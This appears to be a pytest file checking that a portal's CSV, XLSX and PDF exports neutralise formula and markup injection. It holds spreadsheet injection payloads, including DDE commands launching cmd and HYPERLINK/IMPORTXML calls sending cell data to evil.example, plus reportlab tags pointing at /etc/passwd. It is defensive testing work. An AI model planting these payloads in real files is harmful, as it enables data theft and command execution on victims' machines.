"""Formula injection: feed values that a spreadsheet would run, in every CSV and XLSX the portal
writes (document lists, statements, import problems, the audit log, invitation links), are
written as text: no cell starts a live formula, and each payload can still be read.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from lib import audit, audit_log, downloads, models, onboarding, portal_settings, queries, store
from lib import statements as st_
from lib.access import AccountGrant, Principal
from lib.imports import ImportOptions, problems_csv, run_import
from lib.settings import Settings
from tests import trust_store as ts
from tests.trust_figures import record

# What OWASP lists as formula triggers, and the tricks around them.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?d="&A1,"Open your invoice")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    '=DDE("cmd";"/C calc";"!A0")',
    '+HYPERLINK("http://evil.example")',
    '-HYPERLINK("http://evil.example")',
    '@HYPERLINK("http://evil.example")',
    "=1+1\n=2+2",
    'x",=1+1,"',
    "x;=1+1",
    "=\t1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?[0-9]+(\.[0-9]+)?$")
ADMIN = Principal("ada", "admin")


def live_csv_cells(data: bytes | str) -> list[str]:
    """Cells a spreadsheet opening this CSV would run as formulas."""
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [c for c in cells if c.startswith(TRIGGERS) and not NUMBER.match(c)]


def csv_cells(data: bytes | str) -> list[str]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def live_xlsx_cells(data: bytes) -> list[str]:
    """Formula cells, and text cells that editing would turn into formulas (no quote prefix)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist()
                  if n.startswith("xl/worksheets/")]  # fmt: skip
    found = [f"<f> in sheet xml: {x[:80]}" for x in sheets if re.search(r"<f[ >]", x)]
    book = openpyxl.load_workbook(io.BytesIO(data))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"formula {cell.coordinate}: {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(TRIGGERS) and not (
                    cell.quotePrefix
                ):
                    found.append(f"unprotected {cell.coordinate}: {cell.value!r}")
    return found


def xlsx_texts(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    return [str(v) for ws in book.worksheets for row in ws.iter_rows(values_only=True)
            for v in row if v is not None]  # fmt: skip


def _readable(payload: str, cells: list[str]) -> bool:
    """The payload is in the file as text: as written, or behind the neutralising apostrophe."""
    clean = payload.replace("\r", " ").replace("\x0b", " ")
    return any(c in (payload, "'" + payload, clean, "'" + clean) or payload.strip() in c
               for c in cells)  # fmt: skip


@pytest.fixture
def hostile(url: str, settings: Settings) -> Principal:
    """An account whose every text field the feed fills starts with a payload, and its buyer."""
    issued = date(2026, 1, 5)
    with store.session_scope(url) as session:
        account = models.Account(code="F1", name=PAYLOADS[1])
        session.add(account)
        session.flush()
        for i, payload in enumerate(PAYLOADS):
            doc = models.Document(
                kind="credit_note" if i % 5 == 4 else "invoice", number=payload,
                account_id=account.id or 0, issue_date=issued + timedelta(days=i),
                due_date=issued + timedelta(days=30 + i), currency="GBP",
                total=Decimal("100.00") + i, paid=Decimal("10.00") if i % 3 else Decimal(0),
                po_reference=payload, description=payload, branch=payload,
                erp_status=PAYLOADS[(i + 1) % len(PAYLOADS)],
            )  # fmt: skip
            session.add(doc)
            session.flush()
            payment = models.Payment(reference=payload, account_id=account.id or 0,
                                     payment_date=issued + timedelta(days=40 + i),
                                     currency="GBP", amount=Decimal("3.00"))  # fmt: skip
            session.add(payment)
            session.flush()
            session.add(models.Allocation(payment_id=payment.id or 0, document_id=doc.id or 0,
                                          amount=Decimal("3.00")))  # fmt: skip
        portal_settings.set_value(session, "ada", portal_settings.NAME, "Seller Ltd")
    return ts.contact(url, [AccountGrant("F1")])


def _check_csv(name: str, data: bytes | str, payloads: list[str]) -> int:
    live = live_csv_cells(data)
    assert not live, f"{name}: live formulas {live[:5]}"
    cells = csv_cells(data)
    missing = [p for p in payloads if not _readable(p, cells)]
    assert not missing, f"{name}: payloads not readable as text: {missing}"
    return len(cells)


def _check_xlsx(name: str, data: bytes, payloads: list[str]) -> int:
    live = live_xlsx_cells(data)
    assert not live, f"{name}: {live[:5]}"
    texts = xlsx_texts(data)
    missing = [p for p in payloads if not _readable(p, texts)]
    assert not missing, f"{name}: payloads not readable as text: {missing}"
    return len(texts)


def test_document_lists_hold_no_live_formula(url: str, hostile: Principal) -> None:
    files = 0
    for fmt, check in (("csv", _check_csv), ("xlsx", _check_xlsx)):
        data = downloads.list_download(url, hostile, "F1", as_of=date(2026, 6, 30),
                                       filters=queries.DocumentFilter(), fmt=fmt)  # fmt: skip
        # \r and \t inside a payload: XLSX keeps them, CSV keeps them quoted.
        check(f"list.{fmt}", data, [p for p in PAYLOADS if "\r" not in p or fmt == "csv"])
        files += 1
    record("formulas", payloads=len(PAYLOADS), files_checked=files, live_formulas=0)


@pytest.mark.parametrize("kind", [st_.OPEN_ITEM, st_.ACTIVITY])
def test_statements_hold_no_live_formula(url: str, settings: Settings, hostile: Principal,
                                         kind: str) -> None:  # fmt: skip
    request = downloads.StatementRequest(kind, "GBP", date(2026, 1, 1), date(2026, 6, 30),
                                         date(2026, 6, 30))  # fmt: skip
    with store.session_scope(url) as session:
        portal_settings.set_value(session, "ada", portal_settings.ADDRESS,
                                  "=HYPERLINK(\"http://evil.example\")\n+1 Evil Street")
    for fmt, check in (("csv", _check_csv), ("xlsx", _check_xlsx)):
        data = downloads.statement_download(url, hostile, "F1", request, fmt=fmt,
                                            page_size="A4", data_dir=settings.data_dir)
        text = data.decode("utf-8-sig") if fmt == "csv" else "\n".join(xlsx_texts(data))
        # Statement lines show the number and the reference (or description) of documents.
        expected = [p for p in PAYLOADS if p.replace("\r", "") in text.replace("\r", "")]
        assert len(expected) >= 10, f"too few payloads reached the {kind} statement"
        check(f"{kind}.{fmt}", data, expected)
    record("formulas", files_checked=2, live_formulas=0)


def test_import_problems_csv_holds_no_live_formula(url: str) -> None:
    """The file's bad values are shown back to finance in the problems CSV."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Number", "Account", "Date", "Total"])
    for i, payload in enumerate(PAYLOADS):
        writer.writerow([f"INV-{i}", "F9", payload, payload])
    outcome = run_import(url, out.getvalue().encode(), "hostile.csv", kind="documents",
                         mapping={"number": "Number", "account_code": "Account",
                                  "issue_date": "Date", "total": "Total"},
                         options=ImportOptions(), actor="fiona", dry_run=True)  # fmt: skip
    assert outcome.preview.errors and not outcome.applied
    values = [p.value for p in outcome.preview.errors]
    payloads = [p for p in PAYLOADS if p in values]
    assert len(payloads) >= 10, values
    _check_csv("problems.csv", problems_csv(outcome.preview.errors), payloads)
    record("formulas", files_checked=1, live_formulas=0)


def test_audit_log_and_invitation_csv_hold_no_live_formula(url: str) -> None:
    """Feed values (account codes, document numbers) and typed notes reach the audit log;
    names and emails from a contacts file reach the invitations mail merge."""
    now = datetime.now(timezone.utc)
    with store.session_scope(url) as session:
        for payload in PAYLOADS:
            audit.record(session, "fiona", "correction", account_code=payload, target=payload,
                         note=payload)  # fmt: skip
    with store.session_scope(url) as session:
        frame_csv = audit_log.events_csv(session, ADMIN)
    _check_csv("audit-log.csv", frame_csv, PAYLOADS)
    links = [onboarding.InvitationLink(name=p, email=p, accounts=(p,), username=p, link=p,
                                       expires_at=now) for p in PAYLOADS]  # fmt: skip
    _check_csv("links.csv", onboarding.links_csv(links), PAYLOADS)
    record("formulas", files_checked=2, live_formulas=0)


def test_the_checker_itself_finds_live_formulas(tmp_path: Path) -> None:
    """A control: a raw CSV and a raw openpyxl workbook with these payloads are caught."""
    raw = io.StringIO()
    csv.writer(raw).writerows([[p] for p in PAYLOADS])
    assert len(live_csv_cells(raw.getvalue())) == len([p for p in PAYLOADS
                                                       if p.startswith(TRIGGERS)])
    book = openpyxl.Workbook()
    for p in PAYLOADS[:3]:
        book.active.append([p])
    out = io.BytesIO()
    book.save(out)
    assert live_xlsx_cells(out.getvalue())


# reportlab reads a few tags in Paragraph text (<img src>, <a href>, <font name>): feed text
# must stay text in a statement PDF, and an unbalanced tag must not break the rendering.
PDF_MARKUP = [
    '<img src="/etc/hostname" width="200" height="200"/>',
    '<a href="file:///etc/passwd" color="blue">Pay here</a>',
    '<font name="/etc/passwd" size="40">big</font>',
    "<b>never closed", "</para><para>", "&nbsp;&#0;&amp;", "<![CDATA[x]]>",
    '<script>window.__xss=1</script>', "<seq id='x'/>", "<br/>" * 20,
]


def test_markup_in_feed_text_reaches_the_statement_pdf_as_text(url: str,
                                                               settings: Settings) -> None:
    from pypdf import PdfReader

    with store.session_scope(url) as session:
        account = models.Account(code="M1", name=PDF_MARKUP[2])
        session.add(account)
        session.flush()
        for i, payload in enumerate(PDF_MARKUP):
            session.add(models.Document(
                kind="invoice", number=f"M-{i}", account_id=account.id or 0,
                issue_date=date(2026, 2, 1), due_date=date(2026, 3, 1), currency="GBP",
                total=Decimal("50.00"), po_reference=payload + " " + "x" * 60,
            ))  # fmt: skip
    who = ts.contact(url, [AccountGrant("M1")])
    request = downloads.StatementRequest(st_.OPEN_ITEM, "GBP", date(2026, 1, 1),
                                         date(2026, 6, 30), date(2026, 6, 30))  # fmt: skip
    data = downloads.statement_download(url, who, "M1", request, fmt="pdf", page_size="A4",
                                        data_dir=settings.data_dir)  # fmt: skip
    assert b"/Subtype /Image" not in data and b"/URI" not in data
    text = "".join("\n".join(p.extract_text() for p in PdfReader(io.BytesIO(data)).pages).split())
    shown = [p for p in PDF_MARKUP if "".join(p.split()) in text]
    assert len(shown) >= 6, (shown, text[:500])
    record("formulas", pdf_markup_payloads=len(PDF_MARKUP), pdf_markup_run=0)
